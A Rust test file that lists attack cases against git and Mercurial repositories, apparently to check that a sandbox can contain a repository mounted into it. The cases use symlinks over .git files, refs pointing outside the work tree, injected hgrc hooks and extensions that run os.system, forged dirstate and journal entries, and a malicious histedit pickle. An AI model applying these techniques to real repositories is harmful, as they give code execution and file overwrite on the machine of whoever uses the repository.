//! The attacks on Mercurial, and those by links that version control writes through.

use super::attacks::{Attack, REPOSITORY};

pub(crate) const COMMITTED: &str = "hg init repo && cd repo && echo a >a && hg commit -q -A -m a";

pub(crate) const SUBREPOSITORY: &str = "hg init repo && hg init repo/sub && cd repo && echo 'sub = sub' >.hgsub && hg add .hgsub && \
                             (cd sub && echo a >a && hg add a && hg commit -m s) && hg commit -m a";

pub(crate) const TWICE: &str =
    "hg init repo && cd repo && echo a >a && hg commit -q -A -m a && echo b >b && hg commit -q -A -m b";

/// What a dirstate has of a file outside.
pub(crate) const ENTRY: &str = "n\\0\\0\\201\\244\\377\\377\\377\\377\\377\\377\\377\\377\\0\\0\\0\\012../out/key";

/// A commit in the store that names `new` as a subrepository, and that repository, whose extension is the payload.
pub(crate) const NAMED: &str = "export HOME=/tmp; W=$(mktemp -d); hg clone -q . $W/c; hg init new; hg init $W/c/new; \
                     (cd $W/c/new; echo s >s; hg commit -q -A -m s); (cd $W/c; echo 'new = new' >.hgsub; hg add .hgsub; hg commit -q -m n); \
                     (cd new; hg pull -q $W/c/new; hg update -q); hg pull -q $W/c; \
                     printf '[extensions]\nx=%s/x.py\n' \"$PWD\" >new/.hg/hgrc; echo 'import os; os.system(\"PAYLOAD\")' >x.py";

/// git writes these through a link, wherever that leads. `$p` is what must not come to be.
pub(crate) const LINKS: &[Attack] = &[
    Attack {
        name: "a linked work tree that is said to be elsewhere",
        victim: "mkdir out && git init -q -b main repo && cd repo && echo a >a && git add a && git commit -q -m a",
        volume: "repo",
        attack: "git worktree add -q wt; echo \"${PWD%/*}/out/.git\" >.git/worktrees/wt/gitdir; : PAYLOAD",
        outside: ("repo", "git worktree repair; test -e ../out/.git && touch ../PAYLOAD-RAN"),
    },
    Attack {
        name: "a link in the place of the last message",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; rm -f .git/COMMIT_EDITMSG; ln -s \"$p\" .git/COMMIT_EDITMSG",
        outside: ("repo", "echo b >>a; git commit -qam b"),
    },
    Attack {
        name: "a link in the place of the reflog",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; rm -f .git/logs/HEAD; ln -s \"$p\" .git/logs/HEAD",
        outside: ("repo", "echo b >>a; git commit -qam b"),
    },
    Attack {
        name: "a link in the place of the reflog of a branch whose name leaves no room for another",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; n=$(printf %0250d 0); git symbolic-ref HEAD refs/heads/$n; \
                 mkdir -p .git/logs/refs/heads; ln -s \"$p\" .git/logs/refs/heads/$n",
        outside: ("repo", "echo b >>a; git commit -qam b"),
    },
    Attack {
        name: "a link in the place of the index",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; rm -f .git/index; ln -s \"$p\" .git/index",
        outside: ("repo", "git add a"),
    },
    Attack {
        name: "a link to be fetched into",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; ln -s \"$p\" .git/FETCH_HEAD",
        outside: ("repo", "git fetch -q . HEAD"),
    },
    Attack {
        name: "a link in the place of the last message, to the configuration",
        victim: REPOSITORY,
        volume: "repo",
        attack: "rm -f .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG; \
                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"PAYLOAD\"\\n' >.git/MERGE_MSG",
        outside: ("repo", "echo b >>a; GIT_EDITOR=true git commit -qa; git status"),
    },
    Attack {
        name: "a link in the place of the last message, to a hook",
        victim: "git init -q -b main repo && cd repo && echo a >a && git add a && git commit -q -m a && \
                 printf '#!/bin/sh\\n' >.git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        volume: "repo",
        attack: "rm -f .git/COMMIT_EDITMSG; ln -s hooks/post-commit .git/COMMIT_EDITMSG; \
                 printf 'PAYLOAD\\n' >.git/MERGE_MSG",
        outside: ("repo", "echo b >>a; GIT_EDITOR=true git commit -qa"),
    },
    Attack {
        name: "an entry of the index that lies outside of the work tree",
        victim: REPOSITORY,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; p=${p##*/}; blob=$(echo x | git hash-object -w --stdin); \
                 git update-index --add --cacheinfo \"100644,$blob,xx/$p\"; sed -i \"s,xx/$p,../$p,\" .git/index",
        outside: ("repo", "git restore ."),
    },
    Attack {
        name: "an entry of the index that is a hook",
        victim: REPOSITORY,
        volume: "repo",
        attack: "blob=$(printf '#!/bin/sh\\nPAYLOAD\\n' | git hash-object -w --stdin); \
                 git update-index --add --cacheinfo \"100755,$blob,xgit/hooks/post-checkout\"; \
                 sed -i 's,xgit/hooks,.git/hooks,' .git/index",
        outside: ("repo", "git restore .; git checkout -q -b other"),
    },
    Attack {
        name: "a branch that is a reference to a file outside",
        victim: REPOSITORY,
        volume: "repo",
        attack: "echo 'ref: ../../out/new' >.git/refs/heads/main; : PAYLOAD",
        outside: ("repo", "mkdir ../out; git commit -q --allow-empty -m b; test -e ../out/new && touch ../PAYLOAD-RAN"),
    },
    Attack {
        name: "a branch with the name that a reference to a file outside would get",
        victim: REPOSITORY,
        volume: "repo",
        attack: "for ev in ev ev.disabled; do echo 'ref: ../../out/new' >.git/refs/heads/$ev; done; \
                 echo 'ref: refs/heads/ev.disabled' >.git/HEAD; : PAYLOAD",
        outside: ("repo", "mkdir ../out; git commit -q --allow-empty -m b; test -e ../out/new && touch ../PAYLOAD-RAN"),
    },
    Attack {
        name: "a link to a directory outside in the place of a work tree",
        victim: REPOSITORY,
        volume: "repo",
        attack: "mkdir -p .git/worktrees; ln -s ../../../out .git/worktrees/ev; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; git worktree prune; git gc -q; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "a place for the last commit that is a reference to a file outside",
        victim: REPOSITORY,
        volume: "repo",
        attack: "echo 'ref: ../../out/new' >.git/ORIG_HEAD; : PAYLOAD",
        outside: ("repo", "mkdir ../out; git reset -q --hard HEAD; test -e ../out/new && touch ../PAYLOAD-RAN"),
    },
    Attack {
        name: "a resolution to record of a file outside",
        victim: REPOSITORY,
        volume: "repo",
        attack: "id=1111111111111111111111111111111111111111; mkdir -p .git/rr-cache/$id; \
                 echo x >.git/rr-cache/$id/preimage; printf \"$id\\t../out/key\\0\" >.git/MERGE_RR; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo SECRET >../out/key; echo b >>a; git commit -qam b; \
             grep -qr SECRET .git/rr-cache && touch ../PAYLOAD-RAN",
        ),
    },
];

pub(crate) const HG: &[Attack] = &[
    Attack {
        name: "the configuration of a subrepository, in a volume that is a part of the repository",
        victim: "hg init repo && mkdir repo/src && hg init repo/src/sub && cd repo && echo 'src/sub = src/sub' >.hgsub && \
                 hg add .hgsub && (cd src/sub && echo a >a && hg add a && hg commit -m s) && hg commit -m a",
        volume: "repo/src",
        attack: "printf '[extensions]\\nx = %s/x.py\\n' \"$PWD\" >>sub/.hg/hgrc; \
                 printf 'import os\\nos.system(\"\"\"PAYLOAD\"\"\")\\n' >x.py",
        outside: ("repo", "hg status -S"),
    },
    Attack {
        name: "an extension that the configuration has in the work tree",
        victim: "hg init repo && cd repo && mkdir tools && touch tools/ext.py && hg commit -q -A -m a && \
                 printf '[extensions]\\next = %s/tools/ext.py\\n' \"$PWD\" >.hg/hgrc",
        volume: "repo",
        attack: "printf 'import os\\nos.system(\"\"\"PAYLOAD\"\"\")\\n' >tools/ext.py",
        outside: ("repo", "hg status"),
    },
    Attack {
        name: "what an extension in the work tree is compiled to",
        victim: "hg init repo && cd repo && mkdir tools && touch -d 2020-01-01 tools/ext.py && hg commit -q -A -m a && \
                 printf '[extensions]\\next = %s/tools/ext.py\\n' \"$PWD\" >.hg/hgrc",
        volume: "repo",
        attack: "/usr/bin/python3 -c 'import importlib.util as u, marshal, os, struct\n\
s = os.stat(\"tools/ext.py\"); os.makedirs(\"tools/__pycache__\", exist_ok=True)\n\
h = u.MAGIC_NUMBER + struct.pack(\"<III\", 0, int(s.st_mtime), s.st_size)\n\
c = compile(\"import os; os.system(\\\"PAYLOAD\\\")\", \"x\", \"exec\")\n\
open(u.cache_from_source(\"tools/ext.py\"), \"wb\").write(h + marshal.dumps(c))'",
        outside: ("repo", "hg status"),
    },
    Attack {
        name: "a file that the configuration of a subrepository includes",
        victim: "hg init repo && hg init repo/sub && cd repo && echo 'sub = sub' >.hgsub && hg add .hgsub && \
                 (cd sub && echo a >a && hg add a && hg commit -m s && touch team.rc && echo '%include ../team.rc' >.hg/hgrc) && \
                 hg commit -m a",
        volume: "repo",
        attack: "printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >sub/team.rc; echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg diff"),
    },
    Attack {
        name: "an extension that the configuration has in the work tree, by a variable",
        victim: "hg init repo && cd repo && mkdir tools && touch tools/ext.py && hg commit -q -A -m a && \
                 printf '[extensions]\\next = $HOME/repo/tools/ext.py\\n' >.hg/hgrc",
        volume: "repo",
        attack: "printf 'import os\\nos.system(\"\"\"PAYLOAD\"\"\")\\n' >tools/ext.py",
        outside: ("repo", "hg status"),
    },
    Attack {
        name: "a dirstate with a file outside",
        victim: COMMITTED,
        volume: "repo",
        attack: "printf 'ENTRY' >>.hg/dirstate",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg revert --all; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "a transaction to recover that restores configuration",
        victim: COMMITTED,
        volume: "repo",
        attack: "printf '[hooks]\\npre-status = PAYLOAD\\n' >.hg/evil; : >.hg/store/journal; \
                 printf '2\\nplain\\0hgrc\\0evil\\0000\\n' >.hg/store/journal.backupfiles",
        outside: ("repo", "hg recover; hg status"),
    },
    Attack {
        name: "a transaction to recover that restores a file elsewhere",
        victim: COMMITTED,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; echo x >.hg/evil; : >.hg/store/journal; \
                 printf '2\\nplain\\0%s\\0evil\\0000\\n' \"$p\" >.hg/store/journal.backupfiles",
        outside: ("repo", "hg recover"),
    },
    Attack {
        name: "a transaction to roll back that restores configuration",
        victim: COMMITTED,
        volume: "repo",
        attack: "printf '[hooks]\\npre-status = PAYLOAD\\n' >.hg/evil; \
                 printf '2\\nplain\\0hgrc\\0evil\\0000\\n' >.hg/store/undo.backupfiles",
        outside: ("repo", "hg --config ui.rollback=true rollback; hg status"),
    },
    Attack {
        name: "a link in the place of a log",
        victim: COMMITTED,
        volume: "repo",
        attack: "p='PAYLOAD'; p=${p#touch }; p=${p%%;*}; ln -s \"$p\" .hg/blackbox.log",
        outside: ("repo", "hg --config extensions.blackbox= --config blackbox.track=* status"),
    },
    Attack {
        name: "a state of histedit that is a pickle",
        victim: COMMITTED,
        volume: "repo",
        attack: "printf \"cposix\\nsystem\\n(S'PAYLOAD'\\ntR.\" >.hg/histedit-state",
        outside: ("repo", "hg --config extensions.histedit= summary"),
    },
    Attack {
        name: "a repository of patches",
        victim: COMMITTED,
        volume: "repo",
        attack: "mkdir -p .hg/patches/.hg/store; \
                 printf 'revlogv1\\nstore\\nfncache\\ndotencode\\ngeneraldelta\\n' >.hg/patches/.hg/requires; \
                 printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >.hg/patches/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "export HOME=$PWD/..; printf '[extensions]\nmq=\n' >$HOME/.hgrc; hg qnew pp"),
    },
    Attack {
        name: "another queue of patches",
        victim: COMMITTED,
        volume: "repo",
        attack: "hg init .hg/patches-x; echo x >.hg/patches.queue; printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >.hg/patches-x/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg --config extensions.mq= qnew pp"),
    },
    Attack {
        name: "a queue of patches in the work tree",
        victim: COMMITTED,
        volume: "repo",
        attack: "mkdir .hg/patches-; hg init e; echo /../../e >.hg/patches.queue; \
                 printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >e/.hg/hgrc; echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg --config extensions.mq= qnew pp"),
    },
    Attack {
        name: "a repository of the patches in a queue that was there",
        victim: "hg init repo && cd repo && echo a >a && hg commit -q -A -m a && hg --config extensions.mq= qqueue -c q && \
                 hg --config extensions.mq= qnew -m p pp",
        volume: "repo",
        attack: "hg init .hg/patches-q; printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >.hg/patches-q/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg --config extensions.mq= qnew other"),
    },
    Attack {
        name: "a repository of the patches in the queue that is used and was not there yet",
        victim: "hg init repo && cd repo && echo a >a && hg commit -q -A -m a && hg --config extensions.mq= qqueue -c q",
        volume: "repo",
        attack: "hg init .hg/patches-q; printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >.hg/patches-q/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg --config extensions.mq= qnew other"),
    },
    Attack {
        name: "a repository of the patches in a queue that is made later",
        victim: COMMITTED,
        volume: "repo",
        attack: "hg init .hg/patches-next; printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >.hg/patches-next/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg --config extensions.mq= qqueue -c next; hg --config extensions.mq= qnew pp"),
    },
    Attack {
        name: "a patch that is a file outside",
        victim: "hg init repo && cd repo && echo a >a && hg commit -q -A -m a && echo b >>a && hg --config extensions.mq= qnew -m p pp",
        volume: "repo",
        attack: "sed -i 's,:pp,:../../../out/key,' .hg/patches/status; echo ../../../out/key >.hg/patches/series; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg --config extensions.mq= qfinish -a; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "the same where there were no patches",
        victim: COMMITTED,
        volume: "repo",
        attack: "mkdir .hg/patches; hg log -r tip -T '{node}:../../../out/key\\n' >.hg/patches/status; \
                 echo ../../../out/key >.hg/patches/series; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg --config extensions.mq= qfinish -a; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "a dirstate with the configuration",
        victim: "hg init repo && cd repo && echo a >a && hg commit -q -A -m a && echo '[ui]' >.hg/hgrc",
        volume: "repo",
        attack: "printf 'n\\0\\0\\201\\244\\377\\377\\377\\377\\377\\377\\377\\377\\0\\0\\0\\010.hg/hgrc' >>.hg/dirstate; : PAYLOAD",
        outside: ("repo", "hg revert --all; test -e .hg/hgrc || touch ../PAYLOAD-RAN"),
    },
    Attack {
        name: "a dirstate with a file outside to roll back to",
        victim: TWICE,
        volume: "repo",
        attack: "printf 'ENTRY' >>.hg/undo.dirstate; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg --config ui.rollback=true rollback; hg revert --all; \
             test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "the same in a backup of the dirstate",
        victim: TWICE,
        volume: "repo",
        attack: "cp .hg/dirstate .hg/journal.backup.dirstate; printf 'ENTRY' >>.hg/journal.backup.dirstate; : >.hg/store/journal; \
                 printf '2\\nplain\\0dirstate\\0journal.backup.dirstate\\0000\\n' >.hg/store/journal.backupfiles; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg recover; hg revert --all; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "the same in a file that is said to be its backup",
        victim: COMMITTED,
        volume: "repo",
        attack: "cp .hg/dirstate .hg/evil; printf 'ENTRY' >>.hg/evil; : >.hg/store/journal; \
                 printf '2\\nplain\\0dirstate\\0evil\\0000\\n' >.hg/store/journal.backupfiles; : PAYLOAD",
        outside: (
            "repo",
            "mkdir ../out; echo k >../out/key; hg recover; hg revert --all; test -e ../out/key || touch ../PAYLOAD-RAN",
        ),
    },
    Attack {
        name: "a transaction to recover that restores a state of histedit",
        victim: COMMITTED,
        volume: "repo",
        attack: "printf \"cposix\\nsystem\\n(S'PAYLOAD'\\ntR.\" >.hg/journal.backup.histedit-state; : >.hg/store/journal; \
                 printf '2\\nplain\\0histedit-state\\0journal.backup.histedit-state\\0000\\n' >.hg/store/journal.backupfiles",
        outside: ("repo", "hg recover; hg --config extensions.histedit= summary"),
    },
    Attack {
        name: "the configuration of one work tree",
        victim: "hg init repo",
        volume: "repo",
        // A version of Mercurial that reads it only where the repository says that its configuration is shared.
        attack: "echo share-safe >>.hg/requires; printf '[hooks]\\npre-status = PAYLOAD\\n' >.hg/hgrc-not-shared",
        outside: ("repo", "hg status"),
    },
    Attack {
        name: "another repository to share",
        victim: "hg init repo",
        volume: "repo",
        attack: "mkdir -p x/.hg; cp -r .hg/store .hg/requires x/.hg/; printf '[hooks]\\npre-status = PAYLOAD\\n' >x/.hg/hgrc; \
                 (cat .hg/requires; echo shared) >r; cp r .hg/requires; printf %s \"$PWD/x/.hg\" >.hg/sharedpath",
        outside: ("repo", "hg status"),
    },
    Attack {
        name: "the configuration of a subrepository",
        victim: SUBREPOSITORY,
        volume: "repo",
        attack: "printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >sub/.hg/hgrc; echo 'import os; os.system(\"PAYLOAD\")' >x.py",
        outside: ("repo", "hg diff"),
    },
    Attack {
        name: "another repository in the place of a subrepository",
        victim: SUBREPOSITORY,
        volume: "repo",
        attack: "cp -r sub s; printf '[extensions]\\nx=%s/x.py\\n' \"$PWD\" >s/.hg/hgrc; \
                 echo 'import os; os.system(\"PAYLOAD\")' >x.py; rm -rf sub; mv s sub",
        outside: ("repo", "hg diff"),
    },
    Attack {
        name: "a commit that names a subrepository",
        victim: "hg init repo && cd repo && echo a >a && hg add a && hg commit -m a",
        volume: "repo",
        attack: "NAMED",
        outside: ("repo", "hg update"),
    },
    Attack {
        name: "the same in a subrepository",
        victim: SUBREPOSITORY,
        volume: "repo",
        attack: "cd sub; NAMED",
        outside: ("repo/sub", "hg update"),
    },
    Attack {
        name: "the same with another encoding of the store",
        victim: "hg --config format.dotencode=no --config format.use-share-safe=yes init repo && cd repo && echo a >a && hg add a && hg commit -m a",
        volume: "repo",
        attack: "NAMED",
        outside: ("repo", "hg update"),
    },
    Attack {
        name: "the repository mounted by itself",
        victim: "hg init repo",
        volume: "repo/.hg",
        attack: "printf '[hooks]\\npre-status = PAYLOAD\\n' >hgrc",
        outside: ("repo", "hg status"),
    },
];
